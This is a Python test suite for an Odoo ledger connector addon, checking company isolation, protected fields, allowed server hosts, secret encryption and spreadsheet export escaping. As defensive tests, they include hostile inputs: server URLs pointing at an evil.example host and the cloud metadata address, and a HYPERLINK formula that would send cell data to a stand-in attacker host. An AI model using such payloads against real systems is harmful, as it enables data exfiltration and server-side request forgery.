import os
import secrets
from unittest.mock import patch

from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged
from odoo.tools import mute_logger

from odoo.addons.connector_base.ledger.errors import NotAuthorised

from .rights import RightsCase

ADMIN = "accounting admin"
# What no person writes, by the type of the field.
JUNK = {
    "char": "forged",
    "text": "forged",
    "json": [1],
    "integer": 99,
    "float": 99.0,
    "monetary": 99.0,
    "date": "2020-02-02",
    "datetime": "2020-02-02 02:02:02",
}


@tagged("post_install", "-at_install")
class TestBaseGuarded(RightsCase):
    """Whatever a person writes, and by whatever door: it stays with its company, names
    nothing of another one, and leaves alone what the code keeps for itself."""

    def writable(self):
        """(role, row of ours, the same of the other company), of all that a role may
        write."""
        for role in ("clerk", ADMIN):
            for name in self.models_of(self.env):
                if name not in ("ledger.budget",):
                    row = self.as_user(role, self.ours[name])
                    if row.has_access("write"):
                        yield role, row, self.foreign[name]

    def refused(self, records, values, error=UserError):
        with (
            self.assertRaises(error, msg=f"{records} {values}"),
            self.env.cr.savepoint(),
        ):
            records.write(values)
            self.env.flush_all()
        self.env.invalidate_all()

    def test_a_row_of_everything_is_looked_at(self):
        self.assertLessEqual(set(self.models_of(self.env)), set(self.ours))

    def test_what_it_belongs_to_never_changes(self):
        """A mapping that moved into another company's connection would have it book on
        the wrong account; a connection that moved, the invoices of another one."""
        seen = set()
        for _role, row, foreign in self.writable():
            for name in row._owned_by:
                self.refused(row, {name: foreign.sudo()[name].id}, AccessError)
                seen.add((row._name, name))
                # What a form sends back unchanged is no change.
                row.write({name: row[name].id})
        self.assertLessEqual(
            {
                ("ledger.connection", "company_id"),
                ("ledger.mapping", "connection_id"),
                ("ledger.text", "connection_id"),
                ("ledger.relation", "connection_id"),
                ("ledger.relation.proposal", "connection_id"),
            },
            seen,
        )
        connection = self.as_user(ADMIN, self.connection)
        for field in ("mapping_ids", "text_ids", "item_ids"):
            line = self.foreign[connection[field]._name]
            for command in ((4, line.id), (1, line.id, {}), (6, 0, line.ids)):
                self.refused(connection, {field: [command]})
        # Nor by the code itself.
        self.refused(self.connection, {"company_id": self.other_company.id})

    def test_nothing_of_another_company_is_named(self):
        """Whoever names a record is shown its name."""
        for _role, row, _foreign in self.writable():
            for name, field in row._fields.items():
                if not (
                    field.store
                    and field.type in ("many2one", "many2many")
                    and field.comodel_name in self.foreign
                    and field.comodel_name != "res.partner"
                    and not (field.readonly or field.related)
                ):
                    continue
                theirs = self.foreign[field.comodel_name]
                value = theirs.id if field.type == "many2one" else [(6, 0, theirs.ids)]
                self.refused(row, {name: value})
                if field.type == "many2one":
                    # Odoo takes a pair, as it shows one, too.
                    for told in (value, [value, "Ours"]):
                        with self.assertRaises(AccessError, msg=f"{row._name}.{name}"):
                            row.browse().onchange({name: told}, [name], {name: {}})
                    with self.assertRaises(AccessError, msg=f"{row._name}.{name}"):
                        row.browse().with_context(
                            **{f"default_{name}": value}
                        ).onchange({}, [], {name: {}})

    def test_dialogs_show_nothing_of_another_company(self):
        move, export = self.foreign["account.move"], self.foreign["ledger.export"]
        connection = self.theirs
        item = self.foreign["ledger.item"]
        ours = self.ours["account.move"].ids
        for model, values in (
            ("ledger.export.wizard", {"move_ids": [(6, 0, move.ids)]}),
            (
                "ledger.export.wizard",
                {"move_ids": [(6, 0, ours)], "account_item_id": item.id},
            ),
            ("ledger.correction.wizard", {"export_id": export.id, "reason": "Why"}),
            ("ledger.trial.wizard", {"connection_id": connection.id}),
            (
                "ledger.copy.wizard",
                {"connection_id": self.connection.id, "source_id": connection.id},
            ),
        ):
            wizards = self.as_user(ADMIN, self.env[model])
            with (
                self.assertRaises(UserError, msg=f"{model} {values}"),
                self.env.cr.savepoint(),
            ):
                wizards.create(values)
            self.env.invalidate_all()
            defaults = {
                f"default_{k}": v for k, v in values.items() if isinstance(v, int)
            }
            if defaults and "move_ids" not in values:
                with self.assertRaises(AccessError, msg=model):
                    wizards.with_context(**defaults).onchange(
                        {}, [], dict.fromkeys(wizards._fields, {})
                    )
            self.env.invalidate_all()
        with self.assertRaises(AccessError):
            wizards = self.as_user(ADMIN, self.env["ledger.export.wizard"])
            wizards.onchange(
                {"move_ids": [(6, 0, move.ids)]},
                ["move_ids"],
                {"problems": {}, "by_connection": {}, "exported_count": {}},
            )

    def test_items_are_of_the_connection_and_kind(self):
        items = {item.kind: item for item in self.connection.item_ids}
        second = self.connection.copy({"name": "Second", "journal_ids": [(5,)]})
        elsewhere = (
            items["account"]
            .sudo()
            .copy({"connection_id": second.id, "remote_id": "elsewhere"})
        )
        rule = self.ours["ledger.mapping"]
        self.refused(rule, {"item_id": items["vat"].id})
        self.refused(rule, {"item_id": elsewhere.id})
        self.refused(self.connection, {"account_item_id": items["journal"].id})
        self.refused(self.connection, {"account_item_id": elsewhere.id})
        self.refused(self.ours["ledger.relation"], {"item_id": items["account"].id})
        self.refused(self.ours["ledger.text"], {"item_id": items["account"].id})

    def test_rules_of_the_company_hold_after_a_write_too(self):
        self.env["ir.rule"].create(
            {
                "name": "Not what is hidden",
                "model_id": self.env["ir.model"]._get_id("ledger.connection"),
                "domain_force": "[('name', '!=', 'Hidden')]",
            }
        )
        connection = self.as_user(ADMIN, self.connection)
        connection.write({"name": "Shown"})
        self.refused(connection, {"name": "Hidden"}, AccessError)

    def test_what_the_code_keeps_is_not_written_by_people(self):
        seen = set()
        for _role, row, _foreign in self.writable():
            for name, field in row._fields.items():
                if not field.store or not field.readonly or field.related:
                    continue
                if name in ("id", "create_uid", "create_date", "write_uid"):
                    continue
                value = self.junk(row, field)
                if value is None or name == "write_date":
                    continue
                before = row.sudo()[name]
                row.write({name: value})
                self.env.flush_all()
                self.env.invalidate_all()
                self.assertEqual(row.sudo()[name], before, f"{row._name}.{name}")
                seen.add((row._name, name))
        for name in ("state", "database_identity", "administration_code", "stopped"):
            self.assertIn(("ledger.connection", name), seen)
        for name in ("attempt", "sent", "origin", "candidate_ids"):
            self.assertIn(("ledger.relation", name), seen)
        # Nor when something is made, by its values or by what is "default".
        partner = self.env["res.partner"].create({"name": "Another"})
        relations = self.as_user("clerk", self.env["ledger.relation"])
        made = relations.with_context(default_attempt={"a": 1}).create(
            {
                "connection_id": self.connection.id,
                "partner_id": partner.id,
                "role": "customer",
                "sent": [1],
            }
        )
        self.assertFalse(made.attempt or made.sent)

    def junk(self, row, field):
        if field.type == "selection":
            keys = [key for key in field.get_values(row.env) if key != row[field.name]]
            return keys[0] if keys else None
        if field.type == "boolean":
            return not row[field.name]
        if field.type == "many2many" and field.comodel_name in self.ours:
            return [(6, 0, self.ours[field.comodel_name].ids)]
        return JUNK.get(field.type)

    def test_imported_payments_are_said_by_the_import_alone(self):
        row = self.foreign["ledger.allocation"]
        payments = self.as_user("clerk", self.env["account.payment"])
        payment = payments.with_context(default_ledger_allocation_id=row.id).create(
            {
                "amount": 5,
                "partner_id": self.partner_a.id,
                "ledger_allocation_id": row.id,
            }
        )
        payment.write({"ledger_allocation_id": row.id})
        self.assertFalse(payment.ledger_allocation_id)

    @mute_logger("odoo.addons.connector_base.models.relation.ledger_relation")
    def test_one_bad_record_stops_no_other(self):
        """As an older version, or somebody with the database's password, left it."""
        bad = self.ours["ledger.relation"]
        bad.write({"attempt": [1], "sent": [1], "refused": [1]})
        move = self.invoice(partner=bad.partner_id)
        other = self.invoice(partner=self.partner_b)
        self.export(move | other)
        self.assertEqual(other.ledger_state, "done")
        self.assertEqual(move.ledger_state, "rejected")
        self.assertIn("TypeError", move.ledger_message)
        self.assertFalse(self.run_of("export").problem_code)

    # The server that gets the secrets

    def test_another_server_only_where_the_host_allows_it(self):
        self.set_option("LEDGER_CONNECTOR_HOSTS", "127.0.0.1,*")
        connection = self.as_user(ADMIN, self.connection)
        for address in (
            "https://evil.example",
            "http://evil.example",
            "http://localhost:1234",
            "http://127.0.0.1:1234/path",
            "http://127.0.0.1:1234?query",
            "http://user@127.0.0.1:1234",
            r"http://evil.example\@127.0.0.1",
            "http://169.254.169.254",
        ):
            self.refused(connection, {"server_url": address})
        credential = self.connection._credential()
        credential.write({"refresh_token": "s3cr3t", "client_secret": "s3cr3t"})
        connection.server_url = "http://127.0.0.1:1234"
        self.assertFalse(credential.client_secret or credential.refresh_token)
        self.assertFalse(connection.has_secret)
        self.env.flush_all()
        self.env.cr.precommit.run()
        tracked = self.connection.message_ids.tracking_value_ids.field_id
        self.assertIn("server_url", tracked.mapped("name"))
        # What is entered along with the address is for that one.
        connection.write({"server_url": False, "client_secret": self.books.token})
        self.assertTrue(connection.has_secret)
        # One that was allowed once gets nothing any more.
        connection.server_url = "http://127.0.0.1:1234"
        self.set_option("LEDGER_CONNECTOR_HOSTS", "")
        with self.assertRaises(NotAuthorised):
            self.env["ledger.access"]._check_allowed(self.connection)

    # Encryption at rest

    def set_option(self, name, value):
        before = os.environ.get(name, "")
        os.environ[name] = value
        self.addCleanup(os.environ.__setitem__, name, before)

    def test_all_secrets_follow_the_key(self):
        credential = self.connection._credential()
        names = credential._get_secret_fields()
        self.assertIn("client_secret", names)
        first, second = (secrets.token_urlsafe(32) for _ in range(2))
        credential.write(dict.fromkeys(names, "s3cr3t"))
        self.assertTrue(self.connection.is_unsealed)
        for keys in (first, f"{second},{first}", second, f"off,{second}"):
            self.set_option("LEDGER_CONNECTOR_KEY", keys)
            self.env["ledger.credential"]._reseal()
            for name in names:
                is_plain = credential[name] == "s3cr3t"
                self.assertEqual(is_plain, keys.startswith("off"), (name, keys))
                self.assertEqual(credential._decrypt(credential[name]), "s3cr3t")
        self.set_option("LEDGER_CONNECTOR_KEY", second)
        self.connection.client_secret = self.books.token
        self.connection.invalidate_recordset(["is_unsealed"])
        self.assertFalse(self.connection.is_unsealed)
        self.assertNotIn(self.books.token, credential.client_secret)
        self.connection.action_check()
        # Too short, or gone: told so, with what to do.
        self.set_option("LEDGER_CONNECTOR_KEY", "password")
        self.connection.invalidate_recordset(["is_unsealed"])
        self.assertTrue(self.connection.is_unsealed)
        with self.assertRaisesRegex(UserError, "too short"):
            self.connection.client_secret = "another"
        with self.assertLogs("odoo.addons.connector_base", "ERROR"):
            self.env["ledger.credential"]._reseal()
        self.set_option("LEDGER_CONNECTOR_KEY", first)
        with self.assertLogs("odoo.addons.connector_base", "WARNING"):
            self.env["ledger.credential"]._reseal()
        with self.assertRaisesRegex(UserError, "can't be read"):
            self.connection.action_check()
        # Odoo starts with the option changed: at once, not at night.
        self.set_option("LEDGER_CONNECTOR_KEY", f"{first},{second}")
        sealed = credential.client_secret
        for starting in (False, True):
            with patch.object(self.registry, "ready", not starting):
                credential._register_hook()
            self.assertEqual(credential.client_secret != sealed, starting)
        self.set_option("LEDGER_CONNECTOR_KEY", first)
        self.assertEqual(
            credential._decrypt(credential.client_secret), self.books.token
        )

    # Spreadsheets

    def test_names_of_the_ledger_are_no_formulas(self):
        """In a spreadsheet of mappings, customers or the control report."""
        words = '=HYPERLINK("https://evil.example?"&A1)'
        item = self.ours["ledger.item"]
        item.name = words
        self.ours["ledger.relation"].sudo().item_id = item
        control = self.ours["ledger.control"].sudo()
        control.number = words
        admin = self.env.ref("base.group_allow_export")
        self.user_of(ADMIN).group_ids |= admin
        for record, fields in (
            (item, ["name"]),
            (self.ours["ledger.relation"], ["item_id/name"]),
            (control, ["number", "date"]),
        ):
            found = self.as_user(ADMIN, record).export_data(fields)["datas"][0]
            self.assertEqual(found[0], f"'{words}")

    # Free fields

    def test_what_a_group_alone_may_see_is_not_told(self):
        text = self.as_user(ADMIN, self.ours["ledger.text"])
        for path in (
            "invoice_user_id.totp_secret",
            "company_id.bank_journal_ids",
            "ledger_connection_id.client_id",
            "invoice_user_id.partner_id.signup_token",
        ):
            self.refused(text, {"path": path, "value": False})
        text.write({"path": "invoice_user_id.login", "value": False})
        move = self.invoice(invoice_user_id=self.user_of("clerk").id)
        self.assertEqual(text.sudo()._tell(move), self.user_of("clerk").login)
        # A field may be gone, or kept to a group, later on.
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE ledger_text SET path = 'invoice_user_id.totp_secret' WHERE id = %s",
            [text.id],
        )
        self.env.invalidate_all()
        self.export(move)
        self.assertEqual(move.ledger_state, "rejected")
        self.assertIn("free field", move.ledger_message)
        self.assertFalse(text.example)

    def test_free_fields_are_read_with_the_eyes_of_the_company(self):
        text = self.as_user(ADMIN, self.ours["ledger.text"])
        text.write({"path": "partner_id.parent_id.ref", "value": False})
        parent = self.env["res.partner"].create(
            {"name": "P", "ref": "s3cr3t", "company_id": self.other_company.id}
        )
        partner = self.env["res.partner"].create({"name": "Child"})
        move = self.invoice(partner=partner)
        self.env.cr.execute(
            "UPDATE res_partner SET parent_id = %s WHERE id = %s",
            [parent.id, partner.id],
        )
        self.env.invalidate_all()
        self.export(move)
        self.assertEqual(move.ledger_state, "rejected")
        self.assertNotIn("s3cr3t", str(self.env["ledger.export"].search([]).read()))
        self.assertFalse(text.example)
